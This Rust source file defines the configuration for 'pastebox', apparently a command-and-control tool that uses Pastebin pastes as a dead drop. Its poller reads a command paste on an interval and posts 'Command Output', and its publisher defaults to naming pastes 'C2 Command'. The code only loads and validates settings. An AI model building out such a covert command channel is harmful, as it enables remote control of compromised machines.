use crate::error::{PasteboxError, Result};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::Path;
use std::time::Duration;

pub const DEFAULT_CONFIG_FILE: &str = "pastebox.yaml";

// ---------------------------------------------------------------------------
// ConfigWarning / WarnLevel
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ConfigWarning {
    pub level: WarnLevel,
    pub message: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum WarnLevel {
    Warning,
    Error,
}

// ---------------------------------------------------------------------------
// Expiry
// ---------------------------------------------------------------------------

/// Paste expiration values understood by the store.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Expiry {
    #[serde(rename = "N")]
    Never,
    #[serde(rename = "10M")]
    TenMinutes,
    #[serde(rename = "1H")]
    OneHour,
    #[serde(rename = "1D")]
    OneDay,
    #[serde(rename = "1W")]
    OneWeek,
    #[serde(rename = "2W")]
    TwoWeeks,
    #[serde(rename = "1M")]
    OneMonth,
    #[serde(rename = "6M")]
    SixMonths,
    #[serde(rename = "1Y")]
    OneYear,
}

impl Expiry {
    pub fn as_str(&self) -> &'static str {
        match self {
            Expiry::Never => "N",
            Expiry::TenMinutes => "10M",
            Expiry::OneHour => "1H",
            Expiry::OneDay => "1D",
            Expiry::OneWeek => "1W",
            Expiry::TwoWeeks => "2W",
            Expiry::OneMonth => "1M",
            Expiry::SixMonths => "6M",
            Expiry::OneYear => "1Y",
        }
    }
}

impl fmt::Display for Expiry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

// ---------------------------------------------------------------------------
// StoreConfig
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StoreConfig {
    #[serde(default = "default_api_url")]
    pub api_url: String,
    /// Base URL that raw slot contents are served from; the slot id is appended.
    #[serde(default = "default_raw_url")]
    pub raw_url: String,
    #[serde(default)]
    pub dev_key: String,
    #[serde(default)]
    pub timeout_secs: Option<u64>,
}

fn default_api_url() -> String {
    "https://pastebin.com/api/api_post.php".to_string()
}

fn default_raw_url() -> String {
    "https://pastebin.com/raw".to_string()
}

impl Default for StoreConfig {
    fn default() -> Self {
        Self {
            api_url: default_api_url(),
            raw_url: default_raw_url(),
            dev_key: String::new(),
            timeout_secs: None,
        }
    }
}

impl StoreConfig {
    pub fn timeout(&self) -> Option<Duration> {
        self.timeout_secs.map(Duration::from_secs)
    }
}

// ---------------------------------------------------------------------------
// PollerConfig
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PollerConfig {
    #[serde(default)]
    pub command_slot: Option<String>,
    #[serde(default = "default_interval_secs")]
    pub interval_secs: u64,
    #[serde(default = "default_result_name")]
    pub result_name: String,
    #[serde(default = "default_result_expiry")]
    pub result_expiry: Expiry,
}

fn default_interval_secs() -> u64 {
    60
}

fn default_result_name() -> String {
    "Command Output".to_string()
}

fn default_result_expiry() -> Expiry {
    Expiry::OneHour
}

impl Default for PollerConfig {
    fn default() -> Self {
        Self {
            command_slot: None,
            interval_secs: default_interval_secs(),
            result_name: default_result_name(),
            result_expiry: default_result_expiry(),
        }
    }
}

impl PollerConfig {
    pub fn interval(&self) -> Duration {
        Duration::from_secs(self.interval_secs)
    }
}

// ---------------------------------------------------------------------------
// PublisherConfig
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PublisherConfig {
    #[serde(default = "default_command_name")]
    pub name: String,
    #[serde(default = "default_command_expiry")]
    pub expiry: Expiry,
}

fn default_command_name() -> String {
    "C2 Command".to_string()
}

fn default_command_expiry() -> Expiry {
    Expiry::TenMinutes
}

impl Default for PublisherConfig {
    fn default() -> Self {
        Self {
            name: default_command_name(),
            expiry: default_command_expiry(),
        }
    }
}

// ---------------------------------------------------------------------------
// Config (top-level)
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Config {
    #[serde(default = "default_version")]
    pub version: u32,
    #[serde(default)]
    pub store: StoreConfig,
    #[serde(default)]
    pub poller: PollerConfig,
    #[serde(default)]
    pub publisher: PublisherConfig,
}

fn default_version() -> u32 {
    1
}

impl Default for Config {
    fn default() -> Self {
        Self {
            version: default_version(),
            store: StoreConfig::default(),
            poller: PollerConfig::default(),
            publisher: PublisherConfig::default(),
        }
    }
}

impl Config {
    pub fn load(path: &Path) -> Result<Self> {
        if !path.exists() {
            return Err(PasteboxError::ConfigNotFound(path.display().to_string()));
        }
        let data = std::fs::read_to_string(path)?;
        let cfg: Config = serde_yaml::from_str(&data)?;
        Ok(cfg)
    }

    /// Like [`Config::load`], but a missing file yields the defaults.
    pub fn load_or_default(path: &Path) -> Result<Self> {
        match Self::load(path) {
            Err(PasteboxError::ConfigNotFound(_)) => Ok(Self::default()),
            other => other,
        }
    }

    pub fn save(&self, path: &Path) -> Result<()> {
        crate::io::atomic_write(path, self.to_yaml()?.as_bytes())
    }

    /// Write the default config to `path` unless a file is already there.
    /// Returns true if the file was written.
    pub fn init(path: &Path) -> Result<bool> {
        crate::io::write_if_missing(path, Self::default().to_yaml()?.as_bytes())
    }

    pub fn to_yaml(&self) -> Result<String> {
        Ok(serde_yaml::to_string(self)?)
    }

    /// Copy of this config that is safe to print.
    pub fn redacted(&self) -> Self {
        let mut cfg = self.clone();
        if !cfg.store.dev_key.is_empty() {
            cfg.store.dev_key = "********".to_string();
        }
        cfg
    }

    /// The configured command slot with surrounding whitespace removed.
    pub fn command_slot(&self) -> Result<&str> {
        self.poller
            .command_slot
            .as_deref()
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .ok_or(PasteboxError::NoCommandSlot)
    }

    // -----------------------------------------------------------------------
    // Validation
    // -----------------------------------------------------------------------

    pub fn validate(&self) -> Vec<ConfigWarning> {
        let mut warnings = Vec::new();

        if self.store.dev_key.trim().is_empty() {
            warnings.push(ConfigWarning {
                level: WarnLevel::Error,
                message: "store.dev_key is empty (set it or export PASTEBOX_DEV_KEY)"
                    .to_string(),
            });
        }

        for (key, url) in [
            ("store.api_url", &self.store.api_url),
            ("store.raw_url", &self.store.raw_url),
        ] {
            if !url.starts_with("http://") && !url.starts_with("https://") {
                warnings.push(ConfigWarning {
                    level: WarnLevel::Error,
                    message: format!("{key} must be an http(s) URL, got '{url}'"),
                });
            }
        }

        if self.command_slot().is_err() {
            warnings.push(ConfigWarning {
                level: WarnLevel::Error,
                message: "poller.command_slot is not set".to_string(),
            });
        }

        if self.poller.interval_secs == 0 {
            warnings.push(ConfigWarning {
                level: WarnLevel::Warning,
                message: "poller.interval_secs is 0; the poller will hammer the store"
                    .to_string(),
            });
        }

        if self.store.timeout_secs == Some(0) {
            warnings.push(ConfigWarning {
                level: WarnLevel::Warning,
                message: "store.timeout_secs is 0; every request will time out".to_string(),
            });
        }

        warnings
    }
}
